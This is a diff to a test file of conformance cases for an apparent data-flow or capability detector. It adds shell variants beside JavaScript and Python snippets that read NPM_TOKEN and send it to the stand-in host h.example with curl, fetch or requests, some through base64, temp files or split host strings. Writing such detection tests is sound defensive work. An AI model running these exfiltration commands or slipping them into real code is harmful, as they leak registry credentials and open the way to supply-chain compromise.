@@ -14,6 +14,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `function send(d) { fetch("https://h.example", { method: "POST", body: d }); } send(process.env.NPM_TOKEN);`,
       python: `import os, requests\ndef send(d):\n    requests.post("https://h.example", data=d)\nsend(os.environ["NPM_TOKEN"])`,
+      shell: `send() { curl -X POST -d "$1" https://h.example; }\nsend "$NPM_TOKEN"`,
     },
     flows: [STOLEN],
   },
@@ -22,6 +23,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const get = () => process.env.NPM_TOKEN; fetch("https://h.example", { body: get() });`,
       python: `import os, requests\ndef get():\n    return os.getenv("NPM_TOKEN")\nrequests.post("https://h.example", get())`,
+      shell: `get() { echo "$NPM_TOKEN"; }\ncurl -d "$(get)" https://h.example`,
     },
     flows: [STOLEN],
   },
@@ -30,6 +32,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `function make(t) { return () => fetch("https://h.example", { body: t }); } make(process.env.NPM_TOKEN)();`,
       python: `import os, requests\ndef make(t):\n    def send():\n        requests.post("https://h.example", data=t)\n    return send\nmake(os.environ["NPM_TOKEN"])()`,
+      shell: `t=$NPM_TOKEN\nsend() { curl -d "$t" https://h.example; }\nsend`,
     },
     flows: [STOLEN],
   },
@@ -70,6 +73,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `function send(t = process.env.NPM_TOKEN) { fetch("https://h.example", { body: t }); } send();`,
       python: `import os, requests\ndef send(t=os.environ.get("NPM_TOKEN")):\n    requests.post("https://h.example", data=t)\nsend()`,
+      shell: 'send() { curl -d "${1:-$NPM_TOKEN}" https://h.example; }\nsend',
     },
     flows: [STOLEN],
   },
@@ -86,6 +90,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: "fetch(`https://h.example/?t=${process.env.NPM_TOKEN}`);",
       python: `import os, requests\nrequests.get(f"https://h.example/?t={os.environ['NPM_TOKEN']}")`,
+      shell: 'curl "https://h.example/?t=${NPM_TOKEN}"',
     },
     flows: [STOLEN],
   },
@@ -94,6 +99,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const host = "https://h" + ".example"; fetch(host + "/" + process.env.NPM_TOKEN);`,
       python: `import os, requests\nhost = "https://h" + ".example"\nrequests.get(host + "/" + os.environ["NPM_TOKEN"])`,
+      shell: `host="https://h"; host+=".example"; curl "$host/$NPM_TOKEN"`,
     },
     flows: [STOLEN],
   },
@@ -102,6 +108,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `import { wrap } from "some-library"; fetch("https://h.example", { body: wrap(process.env.NPM_TOKEN).toString() });`,
       python: `import os, requests, some_library\nrequests.post("https://h.example", data=some_library.wrap(os.environ["NPM_TOKEN"]).strip())`,
+      shell: `curl -d "$(some-tool --wrap "$NPM_TOKEN")" https://h.example`,
     },
     flows: [STOLEN],
   },
@@ -110,6 +117,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `fetch("https://h.example", { body: Buffer.from(JSON.stringify({ t: process.env.NPM_TOKEN })).toString("base64") });`,
       python: `import os, requests, base64, json\nrequests.post("https://h.example", data=base64.b64encode(json.dumps({"t": os.environ["NPM_TOKEN"]}).encode()))`,
+      shell: `echo "$NPM_TOKEN" | base64 -w0 | curl -d @- https://h.example`,
     },
     flows: [STOLEN],
   },
@@ -118,6 +126,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const l = []; l.push(process.env.NPM_TOKEN); fetch("https://h.example", { body: l.join(",") });`,
       python: `import os, requests\nl = []\nl.append(os.environ["NPM_TOKEN"])\nrequests.post("https://h.example", data=",".join(l))`,
+      shell: 'l=(); l+=("$NPM_TOKEN"); curl -d "${l[*]}" https://h.example',
     },
     flows: [STOLEN],
   },
@@ -126,6 +135,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const fs = require("fs"); fs.writeFileSync("/tmp/x", process.env.NPM_TOKEN); fetch("https://h.example", { body: fs.readFileSync("/tmp/x") });`,
       python: `import os, requests\nwith open("/tmp/x", "w") as f:\n    f.write(os.environ["NPM_TOKEN"])\nrequests.post("https://h.example", data=open("/tmp/x").read())`,
+      shell: `echo "$NPM_TOKEN" > /tmp/x; curl --data-binary @/tmp/x https://h.example`,
     },
     flows: [STOLEN],
   },
@@ -134,6 +144,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `let t = process.env.NPM_TOKEN; t = "ok"; fetch("https://h.example", { body: t });`,
       python: `import os, requests\nt = os.environ["NPM_TOKEN"]\nt = "ok"\nrequests.post("https://h.example", data=t)`,
+      shell: `t=$NPM_TOKEN; t=ok; curl -d "$t" https://h.example`,
     },
     noFlows: [{ from: "read.credential", to: "network.send" }],
   },
@@ -142,6 +153,7 @@ export const PASSING_CASES: ConformanceCase[] = [
     programs: {
       javascript: `console.log(process.env.NPM_TOKEN.length); fetch("https://h.example", { body: "hello" });`,
       python: `import os, requests\nprint(len(os.environ["NPM_TOKEN"]))\nrequests.post("https://h.example", data="hello")`,
+      shell: 'echo "${#NPM_TOKEN}"; curl -d hello https://h.example',
     },
     capabilities: [{ capability: "read.credential", target: "NPM_TOKEN" }],
     noFlows: [{ from: "read.credential", to: "network.send" }],
